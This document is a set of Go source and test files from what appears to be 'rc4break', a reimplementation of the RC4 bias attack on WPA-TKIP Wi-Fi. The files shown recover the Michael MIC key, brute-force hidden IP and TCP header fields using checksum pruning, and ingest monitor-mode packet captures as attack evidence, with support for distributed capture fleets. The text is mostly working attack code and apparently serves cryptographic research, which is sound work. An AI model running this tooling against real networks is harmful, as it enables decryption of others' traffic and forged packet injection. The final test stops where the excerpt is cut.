// body (MSDU ‖ MIC ‖ ICV) — the final §5.3 step. The caller supplies the
// session's addressing so the MIC header can be rebuilt.
func RecoverMICKeyFromPlaintext(da, sa [6]byte, plain []byte) ([michael.KeySize]byte, error) {
	if len(plain) < TrailerSize {
		return [michael.KeySize]byte{}, errors.New("tkip: plaintext too short")
	}
	if !checksum.VerifyICV(plain) {
		return [michael.KeySize]byte{}, ErrICV
	}
	msdu := plain[:len(plain)-TrailerSize]
	var mic [michael.Size]byte
	copy(mic[:], plain[len(msdu):len(msdu)+michael.Size])
	hdr := michael.Header(da, sa, 0)
	msg := append(hdr[:], msdu...)
	return michael.RecoverKey(msg, mic), nil
}
