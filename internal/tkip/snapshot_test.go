package tkip

import (
	"bytes"
	"encoding/gob"
	"errors"
	"math/rand"
	"path/filepath"
	"testing"

	"rc4break/internal/snapshot"
)

func testModelAndPositions(t testing.TB) (*PerTSCModel, []int, []byte) {
	t.Helper()
	positions := TrailerPositions(41) // 12 trailer bytes after a 41-byte MSDU
	model := SyntheticModel(positions[len(positions)-1], 1.0/512, 77)
	pt := []byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}
	return model, positions, pt
}

func attackSnapshotBytes(t *testing.T, a *Attack) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := a.WriteSnapshot(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestSimulateCapturesParallelBitwiseEqualsSequential(t *testing.T) {
	model, positions, pt := testModelAndPositions(t)

	run := func(workers int) []byte {
		a, err := NewAttack(model, positions)
		if err != nil {
			t.Fatal(err)
		}
		a.Workers = workers
		if err := a.SimulateCaptures(rand.New(rand.NewSource(9)), pt, 1<<20); err != nil {
			t.Fatal(err)
		}
		return attackSnapshotBytes(t, a)
	}

	sequential := run(1)
	for _, workers := range []int{2, 5, 16, 0} {
		if !bytes.Equal(sequential, run(workers)) {
			t.Fatalf("workers=%d capture statistics differ from sequential run", workers)
		}
	}
}

func TestAttackSnapshotRoundTrip(t *testing.T) {
	model, positions, pt := testModelAndPositions(t)
	a, err := NewAttack(model, positions)
	if err != nil {
		t.Fatal(err)
	}
	if err := a.SimulateCaptures(rand.New(rand.NewSource(2)), pt, 1<<18); err != nil {
		t.Fatal(err)
	}

	raw := attackSnapshotBytes(t, a)
	b, err := ReadAttackSnapshot(bytes.NewReader(raw), model)
	if err != nil {
		t.Fatal(err)
	}
	if b.Frames != a.Frames {
		t.Fatalf("frames %d != %d", b.Frames, a.Frames)
	}
	if !bytes.Equal(raw, attackSnapshotBytes(t, b)) {
		t.Fatal("resumed attack serializes differently")
	}

	// Resuming against a different model must be rejected.
	other := SyntheticModel(positions[len(positions)-1], 1.0/512, 78)
	if _, err := ReadAttackSnapshot(bytes.NewReader(raw), other); err == nil {
		t.Fatal("snapshot accepted under a different model")
	}
}

func TestAttackSnapshotFileAndCorruption(t *testing.T) {
	model, positions, pt := testModelAndPositions(t)
	a, err := NewAttack(model, positions)
	if err != nil {
		t.Fatal(err)
	}
	if err := a.SimulateCaptures(rand.New(rand.NewSource(5)), pt, 1<<16); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "tkip.snap")
	if err := a.WriteSnapshotFile(path); err != nil {
		t.Fatal(err)
	}
	b, err := ReadAttackSnapshotFile(path, model)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(attackSnapshotBytes(t, a), attackSnapshotBytes(t, b)) {
		t.Fatal("file round trip altered capture state")
	}

	raw := attackSnapshotBytes(t, a)
	if _, err := ReadAttackSnapshot(bytes.NewReader(raw[:len(raw)-9]), model); !errors.Is(err, snapshot.ErrTruncated) {
		t.Fatalf("truncated: want ErrTruncated, got %v", err)
	}
	flipped := append([]byte(nil), raw...)
	flipped[len(flipped)/2] ^= 0x08
	if _, err := ReadAttackSnapshot(bytes.NewReader(flipped), model); !errors.Is(err, snapshot.ErrChecksum) {
		t.Fatalf("flipped byte: want ErrChecksum, got %v", err)
	}
}

func TestAttackMergeShardsEqualSinglePool(t *testing.T) {
	model, positions, pt := testModelAndPositions(t)

	newAttack := func() *Attack {
		a, err := NewAttack(model, positions)
		if err != nil {
			t.Fatal(err)
		}
		return a
	}
	shard1, shard2, pool := newAttack(), newAttack(), newAttack()
	if err := shard1.SimulateCaptures(rand.New(rand.NewSource(10)), pt, 1<<18); err != nil {
		t.Fatal(err)
	}
	if err := shard2.SimulateCaptures(rand.New(rand.NewSource(20)), pt, 1<<18); err != nil {
		t.Fatal(err)
	}
	if err := pool.SimulateCaptures(rand.New(rand.NewSource(10)), pt, 1<<18); err != nil {
		t.Fatal(err)
	}
	if err := pool.SimulateCaptures(rand.New(rand.NewSource(20)), pt, 1<<18); err != nil {
		t.Fatal(err)
	}

	if err := shard1.Merge(shard2); err != nil {
		t.Fatal(err)
	}
	if shard1.Frames != 2<<18 {
		t.Fatalf("merged frames %d", shard1.Frames)
	}
	if !bytes.Equal(attackSnapshotBytes(t, pool), attackSnapshotBytes(t, shard1)) {
		t.Fatal("merged shards differ from single capture pool")
	}

	// Mismatched positions must be rejected.
	otherPos, err := NewAttack(model, TrailerPositions(40))
	if err != nil {
		t.Fatal(err)
	}
	if err := shard1.Merge(otherPos); err == nil {
		t.Fatal("merge across different positions accepted")
	}
	// Mismatched models must be rejected.
	otherModel := SyntheticModel(positions[len(positions)-1], 1.0/512, 99)
	om, err := NewAttack(otherModel, positions)
	if err != nil {
		t.Fatal(err)
	}
	if err := shard1.Merge(om); err == nil {
		t.Fatal("merge across different models accepted")
	}
}

func TestLoadModelLegacyGobStream(t *testing.T) {
	// Models written before the snapshot envelope were bare gob streams;
	// LoadModel must still read them.
	m := SyntheticModel(4, 1.0/512, 5)
	var legacy bytes.Buffer
	if err := gob.NewEncoder(&legacy).Encode(m); err != nil {
		t.Fatal(err)
	}
	got, err := LoadModel(&legacy)
	if err != nil {
		t.Fatal(err)
	}
	if got.Positions != m.Positions || got.Keys != m.Keys || !equalCounts(got.Counts, m.Counts) {
		t.Fatal("legacy model altered by load")
	}
}

func TestModelSaveLoadEnvelope(t *testing.T) {
	m := SyntheticModel(4, 1.0/512, 6)
	var buf bytes.Buffer
	if err := m.Save(&buf); err != nil {
		t.Fatal(err)
	}
	raw := buf.Bytes()
	if string(raw[:snapshot.MagicLen]) != snapshot.Magic {
		t.Fatal("saved model missing envelope magic")
	}
	got, err := LoadModel(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	fp1, err := m.Fingerprint()
	if err != nil {
		t.Fatal(err)
	}
	fp2, err := got.Fingerprint()
	if err != nil {
		t.Fatal(err)
	}
	if fp1 != fp2 {
		t.Fatal("model fingerprint changed across save/load")
	}
	// Corruption is caught before the decoder runs.
	flipped := append([]byte(nil), raw...)
	flipped[len(flipped)/2] ^= 0x01
	if _, err := LoadModel(bytes.NewReader(flipped)); !errors.Is(err, snapshot.ErrChecksum) {
		t.Fatalf("flipped model byte: want ErrChecksum, got %v", err)
	}
}

func equalCounts(a, b []uint64) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func BenchmarkSimulateCapturesSequential(b *testing.B) {
	benchmarkSimulateCaptures(b, 1)
}

func BenchmarkSimulateCapturesParallel(b *testing.B) {
	benchmarkSimulateCaptures(b, 0)
}

func benchmarkSimulateCaptures(b *testing.B, workers int) {
	model, positions, pt := testModelAndPositions(b)
	a, err := NewAttack(model, positions)
	if err != nil {
		b.Fatal(err)
	}
	a.Workers = workers
	rng := rand.New(rand.NewSource(1))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := a.SimulateCaptures(rng, pt, 9<<20); err != nil {
			b.Fatal(err)
		}
	}
}
