package tkip

// DemoSession returns the fixed demonstration session the attack tooling
// shares: cmd/tkipattack's victim and cmd/fleetd's coordinator must agree
// on every byte of it — the coordinator's trailer oracle and exact-mode
// workers' victim streams both derive from it, and a one-byte drift
// between two copies would silently poison a fleet's pooled evidence
// rather than fail any fingerprint check. Call this; do not copy the
// literals.
func DemoSession() *Session {
	return &Session{
		TK:     [16]byte{0x10, 0x21, 0x32, 0x43, 0x54, 0x65, 0x76, 0x87, 0x98, 0xa9, 0xba, 0xcb, 0xdc, 0xed, 0xfe, 0x0f},
		MICKey: [8]byte{0xc0, 0xff, 0xee, 0x15, 0x90, 0x0d, 0xf0, 0x0d},
		TA:     [6]byte{0x00, 0x0c, 0x41, 0x82, 0xb2, 0x55},
		DA:     [6]byte{0x00, 0x1e, 0x58, 0xaa, 0xbb, 0xcc},
		SA:     [6]byte{0x00, 0x22, 0xfb, 0x11, 0x22, 0x33},
	}
}

// DemoPayload is the injected packet's TCP payload in the demo setup (the
// paper's preferred 7-byte payload, §5.2) — shared for the same reason as
// DemoSession: the frame length it implies is part of the capture stream's
// identity.
var DemoPayload = []byte("PAYLOAD")
