package tkip

import (
	"math/rand"
	"testing"

	"rc4break/internal/packet"
)

func TestFieldPositions(t *testing.T) {
	ip := IPFieldPositions()
	if len(ip) != 3 {
		t.Fatalf("%d IP positions", len(ip))
	}
	// LLC/SNAP is 8 bytes; TTL at IP offset 8 -> keystream position 17.
	if ip[0] != 17 || ip[1] != 23 || ip[2] != 24 {
		t.Fatalf("IP positions = %v", ip)
	}
	tcp := TCPPortPositions()
	if len(tcp) != 2 || tcp[0] != 29 || tcp[1] != 30 {
		t.Fatalf("TCP positions = %v", tcp)
	}
}

// headerFieldModel trains a small real model covering the header region.
func headerFieldModel(t *testing.T) *PerTSCModel {
	t.Helper()
	m, err := Train(TrainConfig{Positions: 32, KeysPerTSC: 1 << 9, Master: [16]byte{8}})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestRecoverIPFields(t *testing.T) {
	model := headerFieldModel(t)
	attack, err := NewAttack(model, IPFieldPositions())
	if err != nil {
		t.Fatal(err)
	}
	truth := packet.IPv4{
		TTL:      64,
		Protocol: 6,
		SrcIP:    [4]byte{192, 168, 7, 42}, // last two bytes unknown
		DstIP:    [4]byte{203, 0, 113, 80},
		ID:       0x1234,
		Length:   47,
	}
	hdr := truth.Marshal()
	// Model mode: sample keystream for the 3 unknown positions; the true
	// plaintext at those positions comes from the marshaled header.
	pt := []byte{hdr[8], hdr[14], hdr[15]}
	rng := rand.New(rand.NewSource(4))
	if err := attack.SimulateCaptures(rng, pt, 1<<20); err != nil {
		t.Fatal(err)
	}
	// The attacker's known header: correct everywhere except the unknown
	// fields, which are zeroed. The checksum field stays as transmitted
	// (the victim computed it over the true values).
	known := hdr
	known[8], known[14], known[15] = 0, 0, 0
	ttl, ip2, ip3, depth, err := attack.RecoverIPFields(known, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if ttl != 64 || ip2 != 7 || ip3 != 42 {
		t.Fatalf("recovered (%d, %d, %d), want (64, 7, 42) [depth %d]", ttl, ip2, ip3, depth)
	}
	t.Logf("IP fields at candidate depth %d", depth)
}

func TestRecoverIPFieldsWrongPositionCount(t *testing.T) {
	model := headerFieldModel(t)
	attack, err := NewAttack(model, []int{1, 2})
	if err != nil {
		t.Fatal(err)
	}
	var hdr [packet.IPv4Size]byte
	if _, _, _, _, err := attack.RecoverIPFields(hdr, 10); err == nil {
		t.Error("wrong position count accepted")
	}
}

func TestRecoverTCPPort(t *testing.T) {
	model := headerFieldModel(t)
	attack, err := NewAttack(model, TCPPortPositions())
	if err != nil {
		t.Fatal(err)
	}
	srcIP := [4]byte{192, 168, 7, 42}
	dstIP := [4]byte{203, 0, 113, 80}
	truth := packet.TCP{SrcPort: 52113, DstPort: 80, Seq: 7, Ack: 9, Flags: 0x18, Window: 1000}
	payload := []byte("PAYLOAD")
	thdr := truth.Marshal(srcIP, dstIP, payload)
	seg := append(thdr[:], payload...)

	pt := []byte{seg[0], seg[1]}
	rng := rand.New(rand.NewSource(5))
	if err := attack.SimulateCaptures(rng, pt, 1<<20); err != nil {
		t.Fatal(err)
	}
	known := append([]byte(nil), seg...)
	known[0], known[1] = 0, 0
	port, depth, err := attack.RecoverTCPPort(known, srcIP, dstIP, 1<<18)
	if err != nil {
		t.Fatal(err)
	}
	if port != 52113 {
		t.Fatalf("recovered port %d, want 52113 [depth %d]", port, depth)
	}
	t.Logf("TCP port at candidate depth %d", depth)
}

func TestRecoverTCPPortValidation(t *testing.T) {
	model := headerFieldModel(t)
	attack, err := NewAttack(model, []int{1})
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := attack.RecoverTCPPort(make([]byte, 30), [4]byte{}, [4]byte{}, 10); err == nil {
		t.Error("wrong position count accepted")
	}
	attack2, err := NewAttack(model, TCPPortPositions())
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := attack2.RecoverTCPPort(make([]byte, 10), [4]byte{}, [4]byte{}, 10); err == nil {
		t.Error("short segment accepted")
	}
}
