package tkip

import (
	"errors"
	"fmt"
	"io"

	"rc4break/internal/trace"
)

// This file is the §5.4 collection tool's offline half: fold the
// TKIP-encrypted MPDUs of a monitor-mode capture (pcap or pcapng,
// radiotap or bare 802.11) into an Attack's per-TSC statistics. Filtering
// follows netsim.Sniffer exactly — the injected packet is identified by
// its unique on-air body length and retransmissions are de-duplicated by
// TSC ("thanks to the 7-byte payload, we uniquely detected the injected
// packet ... without any false positives") — so evidence ingested from a
// capture netsim wrote is bitwise identical to what the in-process sniffer
// hands the attack.

// ErrTraceShort reports a strict observation-range ingest (a fleet lane)
// that ran out of capture before the range was filled.
var ErrTraceShort = errors.New("tkip: capture ended before the requested observation range was filled")

// dedupWindow bounds the TSC de-duplication state: 802.11 retransmissions
// arrive within a handful of frames of their original, so remembering the
// last 2^16 accepted TSCs catches every real retry while keeping ingest
// memory O(MB) on arbitrarily long traces (an unbounded seen-set — what
// netsim.Sniffer affords in-process — would grow by 8 bytes per frame).
//
// Eviction is strictly FIFO over accepted TSCs: accepting TSC number
// window+1 evicts the oldest remembered TSC, after which a re-appearance of
// that evicted TSC is accepted again — counted in Stats.Matched (and folded
// as evidence), not Stats.Duplicates. That is the deliberate trade: a
// duplicate separated from its original by 2^16 accepted frames is not an
// 802.11 retransmission but a replay or a TSC wrap, and on a monotone-TSC
// capture (what the injection scenario produces) it never happens. A
// membership probe alone does not refresh or evict anything — only
// acceptance advances the ring. TestTraceDedupWindowEviction pins all of
// this at the boundary.
const dedupWindow = 1 << 16

// frameBatch is how many accepted frames the collector buffers before one
// ObserveFrames call. Frame bodies are views into the container reader's
// reused packet buffer, so batch rows copy the body; the flat copy buffer
// stays O(10 KB). Counts are integers — batching cannot change a bit.
const frameBatch = 256

// TraceStats reports what one ingest pass saw, mirroring the sniffer's
// captured/dropped split with per-reason detail.
type TraceStats struct {
	// Bytes counts capture payload bytes handed up by the container parser
	// — the numerator of an ingest throughput figure.
	Bytes uint64
	// Packets counts container records; Frames counts parsed TKIP MPDUs.
	Packets, Frames uint64
	// Matched counts frames accepted as observations (unique length,
	// fresh TSC, unfragmented) — including ones skipped by a range bound.
	Matched uint64
	// Duplicates counts retransmissions dropped by TSC; Fragmented counts
	// fragment MPDUs (FragNum > 0 or MoreFrag) the attack cannot consume
	// whole; OtherLength counts data frames of non-matching length;
	// Skipped counts non-TKIP-data frames (management, control,
	// cleartext, CCMP); Malformed counts frames that end inside their own
	// headers.
	Duplicates, Fragmented, OtherLength, Skipped, Malformed uint64
}

// TraceCollector streams captures into an Attack. The zero range
// (Start=0, Max=0 meaning unbounded) folds every matching frame in;
// a fleet lane sets Start/Max to serve one lane's observation extent
// from a larger trace. A nil Attack runs the full parse/filter pipeline
// without folding — the parse-only mode experiments use to split ingest
// throughput into parse-bound and fold-bound parts. Call Flush once after
// the last Ingest to fold the final partial batch.
type TraceCollector struct {
	Attack *Attack
	// WantLen is the injected packet's unique encrypted body length
	// (MSDU plus trailer) — netsim.WiFiVictim.FrameLen.
	WantLen int
	// Start and Max bound the accepted-observation range: the first Start
	// matching frames are skipped (already held by a resumed snapshot, or
	// owned by earlier lanes) and at most Max are observed (0 = no bound).
	Start, Max uint64
	Stats      TraceStats

	accepted uint64
	seen     map[TSC]struct{}
	order    []TSC
	next     int

	// In-range frames are copied (the reader reuses its packet buffer
	// across records, so the body view dies with the loop iteration) into
	// a flat row buffer and folded frameBatch at a time.
	batch  []Frame
	bodies []byte
}

// Done reports whether a bounded collector has filled its range.
func (c *TraceCollector) Done() bool {
	return c.Max != 0 && c.accepted >= c.Start+c.Max
}

// Ingest drains one capture stream into the attack, stopping early once a
// bounded range is filled. Multi-file captures call it once per file with
// the same collector.
func (c *TraceCollector) Ingest(r *trace.Reader) error {
	for !c.Done() {
		pkt, err := r.Next()
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
		c.Stats.Packets++
		c.Stats.Bytes += uint64(len(pkt.Data))
		frame := pkt.Data
		fcs := false
		switch pkt.LinkType {
		case trace.LinkTypeRadiotap:
			frame, fcs, err = trace.SplitRadiotap(frame)
			if err != nil {
				c.Stats.Malformed++
				continue
			}
		case trace.LinkTypeIEEE80211:
		default:
			return &trace.LinkTypeError{LinkType: pkt.LinkType, Want: "802.11 or radiotap"}
		}
		m, err := trace.ParseMPDU(frame, fcs)
		switch {
		case err == nil:
		case errors.Is(err, trace.ErrShortFrame):
			c.Stats.Malformed++
			continue
		default: // management/control/cleartext/CCMP
			c.Stats.Skipped++
			continue
		}
		c.Stats.Frames++
		if m.FragNum != 0 || m.MoreFrag {
			// A fragment's body is not the MSDU ‖ MIC ‖ ICV layout the
			// attack models; counting it as evidence would poison the
			// statistics, so fragments are skipped loudly, never folded.
			c.Stats.Fragmented++
			continue
		}
		if len(m.Body) != c.WantLen {
			c.Stats.OtherLength++
			continue
		}
		tsc := TSC(m.TSC)
		if c.dup(tsc) {
			c.Stats.Duplicates++
			continue
		}
		c.Stats.Matched++
		idx := c.accepted
		c.accepted++
		if idx < c.Start {
			continue // owned by an earlier lane / already-resumed evidence
		}
		if c.Attack == nil {
			continue // parse-only pass
		}
		c.appendToBatch(tsc, m.Body)
	}
	return nil
}

// appendToBatch copies one accepted frame into the fold batch, folding the
// batch once full.
func (c *TraceCollector) appendToBatch(tsc TSC, body []byte) {
	if c.bodies == nil {
		c.batch = make([]Frame, 0, frameBatch)
		c.bodies = make([]byte, frameBatch*c.WantLen)
	}
	row := c.bodies[len(c.batch)*c.WantLen : (len(c.batch)+1)*c.WantLen]
	copy(row, body)
	c.batch = append(c.batch, Frame{TSC: tsc, Body: row})
	if len(c.batch) == frameBatch {
		c.Flush()
	}
}

// Flush folds the pending batch. Safe to call repeatedly; collectTrace
// calls it after the last source.
func (c *TraceCollector) Flush() {
	if len(c.batch) == 0 {
		return
	}
	c.Attack.ObserveFrames(c.batch)
	c.batch = c.batch[:0]
}

// dup reports whether the TSC was accepted recently, remembering it
// otherwise. The window is a ring over a membership set.
func (c *TraceCollector) dup(t TSC) bool {
	if c.seen == nil {
		c.seen = make(map[TSC]struct{}, dedupWindow)
		c.order = make([]TSC, dedupWindow)
	}
	if _, dup := c.seen[t]; dup {
		return true
	}
	if len(c.seen) == dedupWindow {
		delete(c.seen, c.order[c.next])
	}
	c.seen[t] = struct{}{}
	c.order[c.next] = t
	c.next = (c.next + 1) % dedupWindow
	return false
}

// CollectTraceReaders ingests a sequence of capture streams (one reader
// per file, in order) into the attack. start skips observations already
// held (a resume, or earlier lanes); max bounds the newly observed count
// (0 = everything). strict demands the full range be present — the fleet
// lane contract — while a non-strict pass accepts whatever the capture
// holds.
func CollectTraceReaders(a *Attack, wantLen int, readers []io.Reader, start, max uint64, strict bool) (TraceStats, error) {
	return collectTrace(a, wantLen, trace.ReaderSources(readers), start, max, strict)
}

// CollectTraceFiles is CollectTraceReaders over capture files on disk.
func CollectTraceFiles(a *Attack, wantLen int, paths []string, start, max uint64, strict bool) (TraceStats, error) {
	return collectTrace(a, wantLen, trace.FileSources(paths), start, max, strict)
}

// collectTrace is the one ingest loop behind both entry points.
func collectTrace(a *Attack, wantLen int, sources []trace.Source, start, max uint64, strict bool) (TraceStats, error) {
	c := &TraceCollector{Attack: a, WantLen: wantLen, Start: start, Max: max}
	if err := trace.EachSource(sources, c.Done, c.Ingest); err != nil {
		return c.Stats, err
	}
	c.Flush()
	if strict && !c.Done() {
		return c.Stats, fmt.Errorf("%w: have %d matching frames, range needs %d",
			ErrTraceShort, c.accepted, start+max)
	}
	return c.Stats, nil
}
