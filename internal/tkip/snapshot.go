package tkip

import (
	"errors"
	"fmt"
	"io"

	"rc4break/internal/snapshot"
)

// AttackSnapshotKind tags §5.3 capture-state snapshots inside the shared
// envelope format.
const AttackSnapshotKind = "rc4break.tkip.attack.v1"

// attackState is the gob payload of an attack snapshot: the attacked
// positions and per-TSC ciphertext histograms, plus the fingerprint of the
// model the statistics will be evaluated against — a capture resumed or
// merged under a different model would silently mix likelihood spaces, so
// the fingerprint is validated before any counter is restored.
type attackState struct {
	ModelFingerprint [16]byte
	Stream           snapshot.StreamInfo
	Positions        []int
	Counts           []uint64
	Frames           uint64
}

func (a *Attack) state() (attackState, error) {
	fp, err := a.Model.Fingerprint()
	if err != nil {
		return attackState{}, err
	}
	return attackState{
		ModelFingerprint: fp,
		Stream:           a.Stream,
		Positions:        a.Positions,
		Counts:           a.counts,
		Frames:           a.Frames,
	}, nil
}

// WriteSnapshot persists the capture state as one checksummed envelope.
func (a *Attack) WriteSnapshot(w io.Writer) error {
	st, err := a.state()
	if err != nil {
		return err
	}
	return snapshot.WriteGob(w, AttackSnapshotKind, st)
}

// WriteSnapshotFile atomically persists the capture state at path.
func (a *Attack) WriteSnapshotFile(path string) error {
	st, err := a.state()
	if err != nil {
		return err
	}
	return snapshot.WriteFileGob(path, AttackSnapshotKind, st)
}

// ReadAttackSnapshot reconstructs an attack from a snapshot, binding it to
// model. The snapshot must have been taken against the same trained model
// (validated by fingerprint) and its counters must match the position
// layout.
func ReadAttackSnapshot(r io.Reader, model *PerTSCModel) (*Attack, error) {
	var st attackState
	if err := snapshot.ReadGob(r, AttackSnapshotKind, &st); err != nil {
		return nil, err
	}
	return attackFromState(st, model)
}

// ReadAttackSnapshotFile loads an attack snapshot from path.
func ReadAttackSnapshotFile(path string, model *PerTSCModel) (*Attack, error) {
	var st attackState
	if err := snapshot.ReadFileGob(path, AttackSnapshotKind, &st); err != nil {
		return nil, err
	}
	return attackFromState(st, model)
}

func attackFromState(st attackState, model *PerTSCModel) (*Attack, error) {
	fp, err := model.Fingerprint()
	if err != nil {
		return nil, err
	}
	if fp != st.ModelFingerprint {
		return nil, errors.New("tkip: snapshot was captured against a different model (fingerprint mismatch)")
	}
	a, err := NewAttack(model, st.Positions)
	if err != nil {
		return nil, fmt.Errorf("tkip: snapshot positions invalid: %w", err)
	}
	if len(st.Counts) != len(a.counts) {
		return nil, errors.New("tkip: snapshot count shape mismatch")
	}
	a.counts = st.Counts
	a.Frames = st.Frames
	a.Stream = st.Stream
	return a, nil
}

// Merge folds another shard's capture statistics into the receiver. Both
// shards must attack the same positions against the same model; mismatches
// are rejected so independently captured shards combine exactly as if one
// sniffer had observed every frame.
func (a *Attack) Merge(o *Attack) error {
	if o == nil {
		return errors.New("tkip: nil merge source")
	}
	if a.Model != o.Model {
		afp, err := a.Model.Fingerprint()
		if err != nil {
			return err
		}
		ofp, err := o.Model.Fingerprint()
		if err != nil {
			return err
		}
		if afp != ofp {
			return errors.New("tkip: cannot merge shards trained against different models (fingerprint mismatch)")
		}
	}
	if len(a.Positions) != len(o.Positions) {
		return errors.New("tkip: cannot merge shards attacking different positions")
	}
	for i, p := range a.Positions {
		if o.Positions[i] != p {
			return errors.New("tkip: cannot merge shards attacking different positions")
		}
	}
	for i, v := range o.counts {
		a.counts[i] += v
	}
	a.Frames += o.Frames
	return nil
}
