package tkip

import (
	"errors"

	"rc4break/internal/checksum"
	"rc4break/internal/packet"
	"rc4break/internal/recovery"
)

// This file implements the second half of §5.3: before the trailer can be
// attacked, the attacker must know every byte of the IP and TCP headers.
// Three fields are not directly predictable — the victim's internal IP,
// its TCP source port, and the IP TTL — but "both the IP and TCP header
// contain checksums. Therefore, we can apply exactly the same technique
// (i.e., candidate generation and pruning) to derive the values of these
// fields with high success rates. This can be done independently of each
// other, and independently of decrypting the MIC and ICV."

// IPFieldPositions returns the 1-indexed keystream positions of the
// unknown IPv4 header fields in the Figure-2 frame layout: the TTL byte
// and the last two source-IP bytes (the internal /16 host part).
func IPFieldPositions() []int {
	base := packet.LLCSNAPSize // IP header starts after LLC/SNAP
	return []int{
		base + 8 + 1,  // TTL (IP offset 8)
		base + 14 + 1, // SrcIP[2]
		base + 15 + 1, // SrcIP[3]
	}
}

// TCPPortPositions returns the 1-indexed keystream positions of the TCP
// source port bytes.
func TCPPortPositions() []int {
	base := packet.LLCSNAPSize + packet.IPv4Size
	return []int{base + 0 + 1, base + 1 + 1}
}

// RecoverIPFields runs the §5.3 checksum-pruned candidate search for the
// unknown IP header fields. knownHeader is the 20-byte IPv4 header with
// the attacker's best-known values everywhere and arbitrary bytes in the
// unknown fields (TTL, SrcIP[2], SrcIP[3]); the attack must have been
// created over exactly IPFieldPositions(). It returns the recovered field
// values (ttl, ip2, ip3), the candidate position at which the checksum
// first verified, and an error when the search is exhausted.
func (a *Attack) RecoverIPFields(knownHeader [packet.IPv4Size]byte, maxDepth int) (ttl, ip2, ip3 byte, depth int, err error) {
	if len(a.Positions) != 3 {
		return 0, 0, 0, 0, errors.New("tkip: attack must cover exactly the 3 unknown IP field positions")
	}
	lks, err := a.Likelihoods()
	if err != nil {
		return 0, 0, 0, 0, err
	}
	hdr := knownHeader
	cand, depth, err := recovery.SearchSingleByte(lks, func(fields []byte) bool {
		hdr[8] = fields[0]
		hdr[14] = fields[1]
		hdr[15] = fields[2]
		return checksum.InternetValid(hdr[:])
	}, maxDepth)
	if err != nil {
		return 0, 0, 0, 0, err
	}
	return cand.Plaintext[0], cand.Plaintext[1], cand.Plaintext[2], depth, nil
}

// RecoverTCPPort runs the analogous search for the TCP source port, pruned
// by the TCP checksum over the pseudo-header. knownSegment is the TCP
// header plus payload with arbitrary bytes in the port field; srcIP/dstIP
// form the pseudo-header (srcIP must already be recovered or known).
func (a *Attack) RecoverTCPPort(knownSegment []byte, srcIP, dstIP [4]byte, maxDepth int) (port uint16, depth int, err error) {
	if len(a.Positions) != 2 {
		return 0, 0, errors.New("tkip: attack must cover exactly the 2 port byte positions")
	}
	if len(knownSegment) < packet.TCPSize {
		return 0, 0, errors.New("tkip: segment shorter than a TCP header")
	}
	lks, err := a.Likelihoods()
	if err != nil {
		return 0, 0, err
	}
	seg := append([]byte(nil), knownSegment...)
	cand, depth, err := recovery.SearchSingleByte(lks, func(fields []byte) bool {
		seg[0] = fields[0]
		seg[1] = fields[1]
		return packet.VerifyTCPChecksum(seg, srcIP, dstIP)
	}, maxDepth)
	if err != nil {
		return 0, 0, err
	}
	return uint16(cand.Plaintext[0])<<8 | uint16(cand.Plaintext[1]), depth, nil
}
