package tkip

import (
	"bytes"
	"testing"
	"testing/quick"

	"rc4break/internal/packet"
	"rc4break/internal/rc4"
)

func testSession() *Session {
	return &Session{
		TK:     [16]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16},
		MICKey: [8]byte{0xde, 0xad, 0xbe, 0xef, 1, 2, 3, 4},
		TA:     [6]byte{0x00, 0x0c, 0x41, 0x82, 0xb2, 0x55},
		DA:     [6]byte{0x00, 0x11, 0x22, 0x33, 0x44, 0x55},
		SA:     [6]byte{0x66, 0x77, 0x88, 0x99, 0xaa, 0xbb},
	}
}

func testMSDU() []byte {
	m := packet.MSDU{
		IP:      packet.IPv4{TTL: 64, SrcIP: [4]byte{192, 168, 1, 100}, DstIP: [4]byte{1, 2, 3, 4}, ID: 99},
		TCP:     packet.TCP{SrcPort: 52000, DstPort: 80, Seq: 1, Ack: 2, Flags: 0x18, Window: 1000},
		Payload: []byte("PAYLOAD"),
	}
	return m.Marshal()
}

func TestTSCPublicKeyBytes(t *testing.T) {
	tsc := TSC(0xABCD)
	if tsc.TSC0() != 0xCD || tsc.TSC1() != 0xAB {
		t.Fatalf("TSC bytes: %#x %#x", tsc.TSC0(), tsc.TSC1())
	}
	k0, k1, k2 := tsc.PublicKeyBytes()
	if k0 != 0xAB {
		t.Errorf("K0 = %#x, want TSC1", k0)
	}
	if k1 != (0xAB|0x20)&0x7f {
		t.Errorf("K1 = %#x", k1)
	}
	if k2 != 0xCD {
		t.Errorf("K2 = %#x, want TSC0", k2)
	}
}

func TestMixKeyStructure(t *testing.T) {
	var tk [16]byte
	tk[3] = 9
	var ta [6]byte
	f := func(tscRaw uint64) bool {
		tsc := TSC(tscRaw & 0xffffffffffff)
		key := MixKey(tk, ta, tsc)
		k0, k1, k2 := tsc.PublicKeyBytes()
		return key[0] == k0 && key[1] == k1 && key[2] == k2
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
	// K1 must always avoid the weak-key space: bit 5 set, bit 7 clear.
	for tsc1 := 0; tsc1 < 256; tsc1++ {
		key := MixKey(tk, ta, TSC(tsc1)<<8)
		if key[1]&0x20 == 0 || key[1]&0x80 != 0 {
			t.Fatalf("TSC1=%#x: K1=%#x violates (TSC1|0x20)&0x7f", tsc1, key[1])
		}
	}
}

func TestMixKeyDistinctPerTSC(t *testing.T) {
	tk := [16]byte{42}
	var ta [6]byte
	a := MixKey(tk, ta, 1)
	b := MixKey(tk, ta, 2)
	if a == b {
		t.Fatal("different TSCs gave identical keys")
	}
	c := MixKey(tk, ta, 1)
	if a != c {
		t.Fatal("key mixing not deterministic")
	}
}

func TestEncapsulateDecapsulateRoundTrip(t *testing.T) {
	s := testSession()
	msdu := testMSDU()
